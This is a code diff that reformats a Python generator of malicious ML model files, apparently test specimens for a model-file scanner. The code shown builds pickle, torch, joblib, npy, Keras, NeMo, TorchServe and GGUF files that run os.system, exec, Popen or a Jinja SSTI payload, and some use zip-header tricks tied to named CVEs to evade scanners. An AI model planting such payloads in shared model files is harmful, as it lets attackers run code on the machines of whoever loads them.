@@ -41,15 +41,15 @@ class Pickle:
         self.out = bytearray(b"\x80" + bytes([protocol])) if protocol >= 2 else bytearray()
         self.memo: dict[str, int] = {}
 
-    def op(self, code: bytes) -> "Pickle":
+    def op(self, code: bytes) -> Pickle:
         self.out += code
         return self
 
-    def text(self, value: str) -> "Pickle":
+    def text(self, value: str) -> Pickle:
         data = value.encode()
         return self.op(b"X" + struct.pack("<I", len(data)) + data)
 
-    def int(self, value: int) -> "Pickle":
+    def int(self, value: int) -> Pickle:
         return self.op(b"J" + struct.pack("<i", value))
 
     def put(self) -> int:
@@ -57,10 +57,10 @@ class Pickle:
         self.op(b"q" + bytes([index]) if index < 256 else b"r" + struct.pack("<I", index))
         return index
 
-    def get(self, index: int) -> "Pickle":
+    def get(self, index: int) -> Pickle:
         return self.op(b"h" + bytes([index]) if index < 256 else b"j" + struct.pack("<I", index))
 
-    def global_(self, module: str, name: str) -> "Pickle":
+    def global_(self, module: str, name: str) -> Pickle:
         key = f"{module}\n{name}\n"
         if key in self.memo:
             return self.get(self.memo[key])
@@ -68,13 +68,13 @@ class Pickle:
         self.memo[key] = self.put()
         return self
 
-    def ints(self, values: tuple[int, ...]) -> "Pickle":
+    def ints(self, values: tuple[int, ...]) -> Pickle:
         self.op(b"(")
         for value in values:
             self.int(value)
         return self.op(b"t")
 
-    def call(self, module: str, name: str, *args: str) -> "Pickle":
+    def call(self, module: str, name: str, *args: str) -> Pickle:
         """module.name(*args) via REDUCE."""
         self.global_(module, name).op(b"(")
         for arg in args:
@@ -139,12 +139,18 @@ def transformer_shapes(total_bytes: int, width: int = 1024) -> list[tuple[str, t
     layer = 0
     while used < total_bytes:
         block = [
-            ("ln_1.weight", (width,)), ("ln_1.bias", (width,)),
-            ("attn.c_attn.weight", (width, 3 * width)), ("attn.c_attn.bias", (3 * width,)),
-            ("attn.c_proj.weight", (width, width)), ("attn.c_proj.bias", (width,)),
-            ("ln_2.weight", (width,)), ("ln_2.bias", (width,)),
-            ("mlp.c_fc.weight", (width, 4 * width)), ("mlp.c_fc.bias", (4 * width,)),
-            ("mlp.c_proj.weight", (4 * width, width)), ("mlp.c_proj.bias", (width,)),
+            ("ln_1.weight", (width,)),
+            ("ln_1.bias", (width,)),
+            ("attn.c_attn.weight", (width, 3 * width)),
+            ("attn.c_attn.bias", (3 * width,)),
+            ("attn.c_proj.weight", (width, width)),
+            ("attn.c_proj.bias", (width,)),
+            ("ln_2.weight", (width,)),
+            ("ln_2.bias", (width,)),
+            ("mlp.c_fc.weight", (width, 4 * width)),
+            ("mlp.c_fc.bias", (4 * width,)),
+            ("mlp.c_proj.weight", (4 * width, width)),
+            ("mlp.c_proj.bias", (width,)),
         ]
         for name, shape in block:
             shapes.append((f"h.{layer}.{name}", shape))
@@ -255,8 +261,14 @@ def write_zip(path: Path, members: dict[str, bytes]) -> None:
 
 def keras_zip(path: Path, layer: dict) -> None:
     config = {"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "layers": [layer]}}
-    write_zip(path, {"metadata.json": json.dumps({"keras_version": "3.15.1"}).encode(), "config.json": json.dumps(config).encode(),
-                     "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 64})
+    write_zip(
+        path,
+        {
+            "metadata.json": json.dumps({"keras_version": "3.15.1"}).encode(),
+            "config.json": json.dumps(config).encode(),
+            "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 64,
+        },
+    )
 
 
 def saved_model(op: str) -> bytes:
@@ -282,7 +294,11 @@ def bytes_value_pickle(key: str, payload: bytes) -> bytes:
 
 # --- the malicious specimens ---------------------------------------------------------------------
 
-SSTI = "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('" + COMMAND + "').read() }}{% endif %}{% endfor %}"
+SSTI = (
+    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('"
+    + COMMAND
+    + "').read() }}{% endif %}{% endfor %}"
+)
 
 
 def _exec_payload(p: Pickle) -> None:
@@ -334,59 +350,121 @@ def _corrupt_crc(data: bytearray, local: int, central: int) -> None:
 
 MaliciousWriter = Callable[[Path], None]
 MALICIOUS: dict[str, tuple[str, MaliciousWriter]] = {
-    "reduce_os_system.pkl": ("protocol 0 `os.system` REDUCE: the classic", lambda path: path.write_bytes(
-        f"cos\nsystem\n(S'{COMMAND}'\ntR.".encode())),
-    "stack_global_eval.pt": ("pickle (not zip) named .pt, STACK_GLOBAL of memoized `builtins.eval`", lambda path: path.write_bytes(
-        _stack_global_eval())),
-    "protocol0_system.bin": ("protocol 0 `posix.system` in a .bin (CVE-2025-10155: extension)", lambda path: path.write_bytes(
-        f"cposix\nsystem\n(S'{COMMAND}'\ntR.".encode())),
-    "model": ("no extension: `runpy._run_code`", lambda path: path.write_bytes(
-        call_pickle("runpy", "_run_code", f"import os; os.system({COMMAND!r})", "{}"))),
-    "pip_main.pkl": ("`pip.main(['install', ...])` (CVE-2025-1716)", lambda path: path.write_bytes(
-        call_pickle("pip", "main", "install", "not-a-real-package"))),
-    "asyncio_subprocess.pkl": ("`asyncio.unix_events._UnixSubprocessTransport` (CVE-2025-10157: submodule)", lambda path: path.write_bytes(
-        call_pickle("asyncio.unix_events", "_UnixSubprocessTransport", COMMAND))),
-    "broken_after_payload.pkl": ("payload, then a broken stream (nullifAI, 2025)", lambda path: path.write_bytes(
-        _broken_stream())),
-    "broken_after_payload.bin": ("the same under a PyTorch-style .bin name", lambda path: path.write_bytes(
-        _broken_stream())),
-    "torch_exec.pt": ("torch zip whose data.pkl calls `builtins.exec` before the state dict", lambda path: small_torch_zip(
-        path, state_dict_pickle(TINY_TENSORS, _exec_payload))),
-    "torch_extra_member.pt": ("torch zip with a second pickle member `extra/state.pkl` calling `os.system`", lambda path: small_torch_zip(
-        path, state_dict_pickle(TINY_TENSORS), ((f"{path.stem}/extra/state.pkl", call_pickle("os", "system", COMMAND)),))),
-    "zip_name_mismatch.pt": ("local header name differs from the central directory (CVE-2025-1944)", lambda path: _zip_with(
-        path, state_dict_pickle(TINY_TENSORS, _exec_payload), _rename_local)),
-    "zip_flag_bits.pt": ("'encrypted' flag bit set on data.pkl (CVE-2025-1945)", lambda path: _zip_with(
-        path, state_dict_pickle(TINY_TENSORS, _exec_payload), _set_flag_bits)),
-    "zip_bad_crc.pt": ("wrong CRC-32 in the central directory (CVE-2025-10156)", lambda path: _zip_with(
-        path, state_dict_pickle(TINY_TENSORS, _exec_payload), _corrupt_crc)),
-    "legacy_torch_system.pt": ("legacy (pre-zip) torch format, payload in the model pickle", lambda path: path.write_bytes(
-        _legacy_torch())),
-    "joblib_zlib_popen.joblib": ("zlib-compressed joblib pickle calling `subprocess.Popen`", lambda path: path.write_bytes(
-        zlib.compress(call_pickle("subprocess", "Popen", COMMAND), 3))),
-    "npy_object_system.npy": (".npy with object dtype whose pickle calls `os.system`", lambda path: path.write_bytes(
-        npy_object(call_pickle("os", "system", COMMAND, protocol=3)))),
-    "pickle_named.safetensors": ("a pickle named .safetensors", lambda path: path.write_bytes(
-        call_pickle("os", "system", COMMAND, protocol=4))),
-    "keras_module_os.keras": (".keras config.json naming `os.system` as a layer (CVE-2025-1550 class)", lambda path: keras_zip(
-        path, {"module": "os", "class_name": "system", "config": {"command": COMMAND}, "registered_name": None})),
-    "gguf_ssti.gguf": ("GGUF chat_template with a Jinja SSTI payload (CVE-2024-34359)", lambda path: path.write_bytes(
-        gguf({"general.architecture": "llama", "tokenizer.chat_template": SSTI}))),
-    "onnx_escape.onnx": ("ONNX external_data location `../../../../etc/passwd`", lambda path: path.write_bytes(
-        onnx_external("../../../../etc/passwd"))),
-    "hf_ssti/tokenizer_config.json": ("Hugging Face tokenizer_config.json whose chat_template is a Jinja SSTI payload", lambda path: path.write_bytes(
-        json.dumps({"bos_token": "<s>", "chat_template": SSTI}).encode())),
-    "tf_writefile/saved_model.pb": ("TensorFlow SavedModel whose serving graph runs WriteFile", lambda path: path.write_bytes(
-        saved_model("WriteFile"))),
-    "nemo_target.nemo": ("NeMo .nemo tar whose model_config.yaml has `_target_: os.system` (CVE-2025-23304)", lambda path: path.write_bytes(
-        tar_archive({"./model_config.yaml": f"preprocessor:\n  _target_: os.system\n  command: {COMMAND}\n".encode()}))),
-    "keras_savedmodel/keras_metadata.pb": ("Keras model saved as a TensorFlow SavedModel, a Lambda layer (bytecode) in keras_metadata.pb", lambda path: path.write_bytes(
-        keras_metadata({"class_name": "Lambda", "config": {"name": "lambda", "function": ["4wEAAAAAAAAA", None, None], "function_type": "lambda", "module": "__main__"}}))),
-    "torchserve.mar": ("TorchServe archive whose handler.py calls `subprocess.Popen`", lambda path: write_zip(path, {
-        "MAR-INF/MANIFEST.json": json.dumps({"model": {"modelName": "m", "handler": "handler.py"}}).encode(),
-        "handler.py": f"import subprocess\n\nsubprocess.Popen({COMMAND!r}, shell=True)\n".encode()})),
-    "nested_bytes.pkl": ("a dict whose value is a pickle kept as bytes, calling `os.system` when unpickled", lambda path: path.write_bytes(
-        bytes_value_pickle("optimizer", call_pickle("os", "system", COMMAND, protocol=4)))),
+    "reduce_os_system.pkl": (
+        "protocol 0 `os.system` REDUCE: the classic",
+        lambda path: path.write_bytes(f"cos\nsystem\n(S'{COMMAND}'\ntR.".encode()),
+    ),
+    "stack_global_eval.pt": (
+        "pickle (not zip) named .pt, STACK_GLOBAL of memoized `builtins.eval`",
+        lambda path: path.write_bytes(_stack_global_eval()),
+    ),
+    "protocol0_system.bin": (
+        "protocol 0 `posix.system` in a .bin (CVE-2025-10155: extension)",
+        lambda path: path.write_bytes(f"cposix\nsystem\n(S'{COMMAND}'\ntR.".encode()),
+    ),
+    "model": (
+        "no extension: `runpy._run_code`",
+        lambda path: path.write_bytes(call_pickle("runpy", "_run_code", f"import os; os.system({COMMAND!r})", "{}")),
+    ),
+    "pip_main.pkl": (
+        "`pip.main(['install', ...])` (CVE-2025-1716)",
+        lambda path: path.write_bytes(call_pickle("pip", "main", "install", "not-a-real-package")),
+    ),
+    "asyncio_subprocess.pkl": (
+        "`asyncio.unix_events._UnixSubprocessTransport` (CVE-2025-10157: submodule)",
+        lambda path: path.write_bytes(call_pickle("asyncio.unix_events", "_UnixSubprocessTransport", COMMAND)),
+    ),
+    "broken_after_payload.pkl": ("payload, then a broken stream (nullifAI, 2025)", lambda path: path.write_bytes(_broken_stream())),
+    "broken_after_payload.bin": ("the same under a PyTorch-style .bin name", lambda path: path.write_bytes(_broken_stream())),
+    "torch_exec.pt": (
+        "torch zip whose data.pkl calls `builtins.exec` before the state dict",
+        lambda path: small_torch_zip(path, state_dict_pickle(TINY_TENSORS, _exec_payload)),
+    ),
+    "torch_extra_member.pt": (
+        "torch zip with a second pickle member `extra/state.pkl` calling `os.system`",
+        lambda path: small_torch_zip(
+            path, state_dict_pickle(TINY_TENSORS), ((f"{path.stem}/extra/state.pkl", call_pickle("os", "system", COMMAND)),)
+        ),
+    ),
+    "zip_name_mismatch.pt": (
+        "local header name differs from the central directory (CVE-2025-1944)",
+        lambda path: _zip_with(path, state_dict_pickle(TINY_TENSORS, _exec_payload), _rename_local),
+    ),
+    "zip_flag_bits.pt": (
+        "'encrypted' flag bit set on data.pkl (CVE-2025-1945)",
+        lambda path: _zip_with(path, state_dict_pickle(TINY_TENSORS, _exec_payload), _set_flag_bits),
+    ),
+    "zip_bad_crc.pt": (
+        "wrong CRC-32 in the central directory (CVE-2025-10156)",
+        lambda path: _zip_with(path, state_dict_pickle(TINY_TENSORS, _exec_payload), _corrupt_crc),
+    ),
+    "legacy_torch_system.pt": (
+        "legacy (pre-zip) torch format, payload in the model pickle",
+        lambda path: path.write_bytes(_legacy_torch()),
+    ),
+    "joblib_zlib_popen.joblib": (
+        "zlib-compressed joblib pickle calling `subprocess.Popen`",
+        lambda path: path.write_bytes(zlib.compress(call_pickle("subprocess", "Popen", COMMAND), 3)),
+    ),
+    "npy_object_system.npy": (
+        ".npy with object dtype whose pickle calls `os.system`",
+        lambda path: path.write_bytes(npy_object(call_pickle("os", "system", COMMAND, protocol=3))),
+    ),
+    "pickle_named.safetensors": (
+        "a pickle named .safetensors",
+        lambda path: path.write_bytes(call_pickle("os", "system", COMMAND, protocol=4)),
+    ),
+    "keras_module_os.keras": (
+        ".keras config.json naming `os.system` as a layer (CVE-2025-1550 class)",
+        lambda path: keras_zip(path, {"module": "os", "class_name": "system", "config": {"command": COMMAND}, "registered_name": None}),
+    ),
+    "gguf_ssti.gguf": (
+        "GGUF chat_template with a Jinja SSTI payload (CVE-2024-34359)",
+        lambda path: path.write_bytes(gguf({"general.architecture": "llama", "tokenizer.chat_template": SSTI})),
+    ),
+    "onnx_escape.onnx": (
+        "ONNX external_data location `../../../../etc/passwd`",
+        lambda path: path.write_bytes(onnx_external("../../../../etc/passwd")),
+    ),
+    "hf_ssti/tokenizer_config.json": (
+        "Hugging Face tokenizer_config.json whose chat_template is a Jinja SSTI payload",
+        lambda path: path.write_bytes(json.dumps({"bos_token": "<s>", "chat_template": SSTI}).encode()),
+    ),
+    "tf_writefile/saved_model.pb": (
+        "TensorFlow SavedModel whose serving graph runs WriteFile",
+        lambda path: path.write_bytes(saved_model("WriteFile")),
+    ),
+    "nemo_target.nemo": (
+        "NeMo .nemo tar whose model_config.yaml has `_target_: os.system` (CVE-2025-23304)",
+        lambda path: path.write_bytes(
+            tar_archive({"./model_config.yaml": f"preprocessor:\n  _target_: os.system\n  command: {COMMAND}\n".encode()})
+        ),
+    ),
+    "keras_savedmodel/keras_metadata.pb": (
+        "Keras model saved as a TensorFlow SavedModel, a Lambda layer (bytecode) in keras_metadata.pb",
+        lambda path: path.write_bytes(
+            keras_metadata(
+                {
+                    "class_name": "Lambda",
+                    "config": {"name": "lambda", "function": ["4wEAAAAAAAAA", None, None], "function_type": "lambda", "module": "__main__"},
+                }
+            )
+        ),
+    ),
+    "torchserve.mar": (
+        "TorchServe archive whose handler.py calls `subprocess.Popen`",
+        lambda path: write_zip(
+            path,
+            {
+                "MAR-INF/MANIFEST.json": json.dumps({"model": {"modelName": "m", "handler": "handler.py"}}).encode(),
+                "handler.py": f"import subprocess\n\nsubprocess.Popen({COMMAND!r}, shell=True)\n".encode(),
+            },
+        ),
+    ),
+    "nested_bytes.pkl": (
+        "a dict whose value is a pickle kept as bytes, calling `os.system` when unpickled",
+        lambda path: path.write_bytes(bytes_value_pickle("optimizer", call_pickle("os", "system", COMMAND, protocol=4))),
+    ),
 }
 
 BENIGN_OTHER: dict[str, bytes] = {
